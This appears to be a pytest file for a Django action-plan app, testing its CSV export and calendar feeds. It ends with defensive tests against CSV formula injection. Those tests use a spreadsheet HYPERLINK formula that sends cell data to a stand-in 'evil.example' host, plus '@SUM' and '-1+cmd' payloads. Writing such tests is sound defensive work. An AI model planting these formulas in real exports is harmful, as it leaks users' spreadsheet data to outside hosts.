import csv
import io
from datetime import date, timedelta
from decimal import Decimal

import pytest
from django.urls import reverse
from icalendar import Calendar

from actionplan.models import ActionFollow, CalendarFeed
from actionplan.services import calendar_feed_create
from tests.factories import MembershipFactory, UserFactory

from .conftest import ActionFactory, MilestoneFactory, ObjectiveFactory

CSV = reverse("actionplan:export_csv")
ICS = reverse("actionplan:calendar")


def rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def events(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/calendar")
    calendar = Calendar.from_ical(response.content)
    return {str(e["summary"]): e.decoded("dtstart") for e in calendar.walk("VEVENT")}


@pytest.fixture
def plan(action, objective, other_cluster, draft_action):
    action.partners.set([other_cluster])
    type(action).objects.filter(pk=action.pk).update(
        start_date=date(2026, 1, 5), due_date=date(2027, 3, 31), progress=35
    )
    energy = ObjectiveFactory(strategy=objective.strategy, title="Clean energy", theme="energy")
    other = ActionFactory(
        objective=energy,
        title="Solar roofs",
        lead_cluster=other_cluster,
        status="planned",
        start_date=date(2026, 2, 1),
        due_date=date(2026, 12, 15),
    )
    MilestoneFactory(action=action, title="First pilot", date=date(2026, 6, 1))
    MilestoneFactory(action=other, title="Tender out", date=date(2026, 4, 1))
    MilestoneFactory(action=draft_action, title="Hidden milestone", date=date(2026, 5, 1))
    return {"action": action, "other": other}


def test_csv_has_one_row_per_action(client, plan, owner):
    by_title = {row["title"]: row for row in rows(client.get(CSV))}
    assert set(by_title) == {"Shared e-bike pilots", "Solar roofs"}
    bikes = by_title["Shared e-bike pilots"]
    assert bikes["objective"] == "Cleaner mobility"
    assert bikes["theme"] == "Mobility"
    assert bikes["lead cluster"] == "Mobility Valley"
    assert bikes["partners"] == "Energy Coast"
    assert bikes["owner"] == owner.display_name
    assert (bikes["start"], bikes["due"]) == ("2026-01-05", "2027-03-31")
    assert (bikes["status"], bikes["progress"]) == ("In progress", "35")
    assert by_title["Solar roofs"]["owner"] == ""
    assert by_title["Solar roofs"]["partners"] == ""


def test_csv_follows_the_filter(client, plan):
    assert [r["title"] for r in rows(client.get(CSV, {"theme": "energy"}))] == ["Solar roofs"]
    assert [r["title"] for r in rows(client.get(CSV, {"lead": "mobility-valley"}))] == [
        "Shared e-bike pilots"
    ]


def test_csv_of_a_draft_strategy_is_for_the_secretariat_only(
    client, login, draft_action, secretariat
):
    assert client.get(CSV).status_code == 404
    titles = [r["title"] for r in rows(login(secretariat).get(CSV))]
    assert titles == ["Secret future action"]


def test_calendar_has_due_dates_and_milestones(client, plan):
    assert events(client.get(ICS)) == {
        "Due: Shared e-bike pilots": date(2027, 3, 31),
        "Due: Solar roofs": date(2026, 12, 15),
        "First pilot (Shared e-bike pilots)": date(2026, 6, 1),
        "Tender out (Solar roofs)": date(2026, 4, 1),
    }


def test_calendar_follows_the_filter(client, plan):
    assert set(events(client.get(ICS, {"theme": "energy"}))) == {
        "Due: Solar roofs",
        "Tender out (Solar roofs)",
    }


def test_calendar_never_shows_a_draft_strategy_to_visitors(client, draft_action):
    MilestoneFactory(action=draft_action, title="Hidden milestone")
    assert client.get(ICS).status_code == 404


def test_private_feed_has_only_that_persons_actions(client, plan, objective, other_cluster):
    person = UserFactory(email="feed@example.org")
    token = calendar_feed_create(user=person)
    MembershipFactory(user=person, cluster=other_cluster, role="staff")  # leads "Solar roofs"
    owned = ActionFactory(objective=objective, title="Owned", owner=person)
    followed = ActionFactory(objective=objective, title="Followed")
    ActionFollow.objects.create(user=person, action=followed)
    ActionFactory(objective=objective, title="Someone else's")
    got = events(client.get(ICS, {"token": token}))
    assert {name for name in got if name.startswith("Due: ")} == {
        "Due: Solar roofs",
        "Due: Owned",
        "Due: Followed",
    }
    assert got["Due: Owned"] == owned.due_date
    assert got["Tender out (Solar roofs)"] == date(2026, 4, 1)
    assert "First pilot (Shared e-bike pilots)" not in got


def test_private_feed_never_shows_drafts_to_members(client, plan, owner):
    token = calendar_feed_create(user=owner)
    got = events(client.get(ICS, {"token": token}))
    assert set(got) == {"Due: Shared e-bike pilots", "First pilot (Shared e-bike pilots)"}


def test_unknown_or_inactive_feed_token_is_404(client, plan, owner):
    assert client.get(ICS, {"token": "no-such-token"}).status_code == 404
    token = calendar_feed_create(user=owner)
    assert client.get(ICS, {"token": token}).status_code == 200
    owner.is_active = False
    owner.save(update_fields=["is_active"])
    assert client.get(ICS, {"token": token}).status_code == 404


def test_asking_for_a_feed_creates_one(login, member, strategy):
    client = login(member)
    assert client.post(reverse("actionplan:calendar_feed")).status_code == 302
    assert client.post(reverse("actionplan:calendar_feed")).status_code == 400  # reset instead
    feed = CalendarFeed.objects.get(user=member)
    assert client.get(reverse("actionplan:plan")).context["calendar_feed"] == feed


def test_due_date_events_last_one_day(client, plan):
    calendar = Calendar.from_ical(client.get(ICS).content)
    for event in calendar.walk("VEVENT"):
        assert event.decoded("dtend") - event.decoded("dtstart") == timedelta(days=1)


# --- no formula in the CSV --------------------------------------------------------------

FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'


def _set(model_obj, **values):
    type(model_obj).objects.filter(pk=model_obj.pk).update(**values)


# Each text column of the export, and how a person could put a formula in it.
TEXT_COLUMNS = {
    "objective": lambda p, f: _set(p["action"].objective, title=f),
    "title": lambda p, f: _set(p["action"], title=f),
    "lead cluster": lambda p, f: _set(p["action"].lead_cluster, name=f),
    "partners": lambda p, f: _set(p["action"].partners.get(), name=f),
    "owner": lambda p, f: _set(p["action"].owner, name=f),
    "currency": lambda p, f: _set(p["action"], budget_currency=f[:3]),
    "funding source": lambda p, f: _set(p["action"], funding_source=f),
}


@pytest.mark.parametrize("formula", [FORMULA, "  @SUM(A1:A9)", "-1+cmd"])
@pytest.mark.parametrize("column", TEXT_COLUMNS)
def test_a_formula_in_any_text_column_is_exported_as_text(client, plan, column, formula):
    TEXT_COLUMNS[column](plan, formula)
    sent = formula[:3] if column == "currency" else formula

    (row,) = [r for r in rows(client.get(CSV)) if r["id"] == str(plan["action"].pk)]

    assert row[column] == "'" + sent


def test_numbers_stay_numbers_in_the_csv(client, plan):
    _set(plan["action"], budget_amount=Decimal("-1250.50"))

    (row,) = [r for r in rows(client.get(CSV)) if r["id"] == str(plan["action"].pk)]

    assert (row["progress"], row["budget"], row["start"]) == ("35", "-1250.50", "2026-01-05")
    assert row["id"] == str(plan["action"].pk)
